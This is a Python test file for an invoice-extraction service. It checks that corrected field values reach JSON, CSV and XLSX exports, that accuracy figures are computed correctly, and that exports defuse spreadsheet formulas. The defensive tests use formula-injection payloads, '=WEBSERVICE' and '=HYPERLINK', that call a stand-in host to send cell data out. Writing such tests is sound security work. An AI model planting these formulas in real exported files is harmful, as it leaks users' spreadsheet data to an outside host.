"""Exports in every format carry the corrected values; accuracy counts what reviewers kept and what they fixed."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from fieldwise.api import exports
from fieldwise.extraction.accuracy import measure
from fieldwise.extraction.schema import FieldSpec
from tests.conftest import INVOICE_FIELDS, wait_processed
from tests.support.live_server import LiveServer


@pytest.fixture(scope="module")
def corrected(server: LiveServer) -> dict[str, Any]:
    with server.client(server.key) as api:
        workflow = api.post("/v2/workflows/", json={"name": "Exports ü", "fields": INVOICE_FIELDS}).json()
        ids = []
        for number in ("A-1", "B-2"):
            run = api.post(f"/v2/workflows/{workflow['id']}/run/",
                           files={"file": (f"{number}.txt", f"Invoice number: {number}\nTotal: 10.00", "text/plain")})
            ids.append(run.json()["id"])
        for cid in ids:
            assert wait_processed(api, cid).status_code == 200
        assert api.patch(f"/v2/files/{ids[0]}/fields/total/", json={"value": 99.5}).status_code == 200
        assert api.patch(f"/v2/files/{ids[0]}/fields/invoice_number/", json={"verified": True}).status_code == 200
    return {"workflow_id": workflow["id"], "ids": ids}


def _export(api: httpx.Client, workflow_id: str, fmt: str) -> httpx.Response:
    response = api.get(f"/v2/workflows/{workflow_id}/results/", params={"output_format": fmt})
    assert response.status_code == 200, response.text
    return response


def test_every_format_has_the_corrected_value(api: httpx.Client, corrected: dict[str, Any]) -> None:
    wid = corrected["workflow_id"]
    as_json = _export(api, wid, "json").json()
    assert as_json["A-1.txt"]["results"]["extraction"]["total"]["value"] == 99.5
    assert as_json["B-2.txt"]["results"]["extraction"]["total"]["value"] == 10.0

    lines = [json.loads(line) for line in _export(api, wid, "jsonl").text.splitlines()]
    by_name = {line["file_name"]: line for line in lines}
    assert by_name["A-1.txt"]["results"]["extraction"]["total"]["value"] == 99.5

    response = _export(api, wid, "csv")
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = {r["file_name"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert rows["A-1.txt"]["total"] == "99.5" and rows["B-2.txt"]["invoice_number"] == "B-2"
    assert rows["B-2.txt"]["total"] == "10.00"  # as the document printed it ("Total: 10.00"), not "10.0"
    assert 0 < int(rows["B-2.txt"]["total.confidence"]) <= 100  # every value has its confidence beside it

    book = load_workbook(io.BytesIO(_export(api, wid, "xlsx").content))
    sheet = book["fields"]
    header = [c.value for c in sheet[1]]
    values = {row[0]: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["A-1.txt"]["total"] == 99.5 and values["B-2.txt"]["invoice_number"] == "B-2"
    assert api.get(f"/v2/workflows/{wid}/results/", params={"output_format": "pdf"}).status_code == 400


def test_accuracy_counts_kept_and_fixed_values(api: httpx.Client, other_api: httpx.Client,
                                               corrected: dict[str, Any]) -> None:
    response = api.get(f"/v2/workflows/{corrected['workflow_id']}/accuracy/")
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["reviewed_collections"] == 1
    assert body["fields"]["invoice_number"]["reviewed"] == 1 and body["fields"]["invoice_number"]["correct"] == 1
    assert body["fields"]["total"]["reviewed"] == 1 and body["fields"]["total"]["accuracy"] == 0.0
    assert body["overall"]["reviewed"] == 2 and body["overall"]["accuracy"] == 0.5
    assert sum(b["reviewed"] for b in body["fields"]["total"]["bands"]) == 1
    assert other_api.get(f"/v2/workflows/{corrected['workflow_id']}/accuracy/").status_code == 404


ITEMS = FieldSpec("items", "", "object", (), (FieldSpec("what"), FieldSpec("amount", "", "float")))


def _cell(value: Any, confidence: float = 90.0, **extra: Any) -> dict[str, Any]:
    return {"value": value, "confidence": confidence, "evidence": [], "value_unit": None, **extra}


def test_xlsx_has_a_sheet_per_object_field() -> None:
    stored = {"items": [{"what": _cell("Paper"), "amount": _cell(10.0, value_override=12.0, verified=True)}]}
    flat = exports.flat_of(stored, [ITEMS], False)
    entry = exports.Entry("a.pdf", "c1", "processed", None, [ITEMS], flat)
    book = load_workbook(io.BytesIO(exports.as_xlsx([entry])))
    assert book.sheetnames == ["fields", "items"]
    assert list(book["items"].iter_rows(values_only=True)) == [
        ("file_name", "collection_id", "row", "what", "amount"), ("a.pdf", "c1", 0, "Paper", 12.0)]
    assert json.loads(next(csv.DictReader(io.StringIO(exports.as_csv([entry]).decode())))["items"]) == [
        {"what": "Paper", "amount": 12.0}]


def test_accuracy_bands() -> None:
    fields = [FieldSpec("n"), ITEMS]
    stored = [
        ({"n": _cell("x", 97, verified=True)}, fields),
        ({"n": _cell("y", 97, verified=True, value_override="z")}, fields),
        ({"n": _cell("y", 40, verified=True, value_override="y")}, fields),  # corrected to the same value
        ({"n": _cell("w", 99)}, fields),  # not reviewed
        ({"items": [{"what": _cell("p", 85, verified=True), "amount": _cell(1.0, 85)}]}, fields),
    ]
    result = measure(stored)
    n = result["fields"]["n"]
    assert (n["reviewed"], n["correct"]) == (3, 2)
    top = n["bands"][-1]
    assert (top["min_confidence"], top["reviewed"], top["correct"], top["accuracy"]) == (95, 2, 1, 0.5)
    assert n["bands"][0]["accuracy"] == 1.0 and n["bands"][2]["accuracy"] is None
    assert result["fields"]["items.what"]["bands"][3]["reviewed"] == 1 and "items.amount" not in result["fields"]


def test_exports_never_carry_a_live_formula(api: httpx.Client) -> None:
    workflow = api.post("/v2/workflows/", json={"name": "Formulas", "fields": INVOICE_FIELDS}).json()
    run = api.post(f"/v2/workflows/{workflow['id']}/run/",
                   files={"file": ('=HYPERLINK("http://x.test/"&A2).txt', b"Invoice number: N-1\nTotal: 5.00",
                                   "text/plain")}).json()
    assert wait_processed(api, run["id"]).status_code == 200
    attack = '=WEBSERVICE("http://x.test/?"&A2)'
    assert api.patch(f"/v2/files/{run['id']}/fields/invoice_number/", json={"value": attack}).status_code == 200
    assert api.patch(f"/v2/files/{run['id']}/fields/total/", json={"value": -5.0}).status_code == 200

    row = next(csv.DictReader(io.StringIO(_export(api, workflow["id"], "csv").text)))
    assert row["invoice_number"] == "'" + attack and row["file_name"].startswith("'=HYPERLINK")
    assert row["total"] == "-5"  # a number is not a formula (and the document printed no -5 to copy)

    book = load_workbook(io.BytesIO(_export(api, workflow["id"], "xlsx").content))
    cells = {cell.value: cell.data_type for cell in book["fields"][2]}
    assert cells[attack] == "s" and cells[-5.0] == "n"
    assert all(t != "f" for line in book["fields"].iter_rows() for t in (c.data_type for c in line))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_start_a_formula_are_inert(text: str) -> None:
    entry = exports.Entry(text, "c1", "processed", None, [FieldSpec("n")], {"n": {"value": text}})
    row = next(csv.DictReader(io.StringIO(exports.as_csv([entry]).decode())))
    assert row["file_name"] == row["n"] == "'" + text
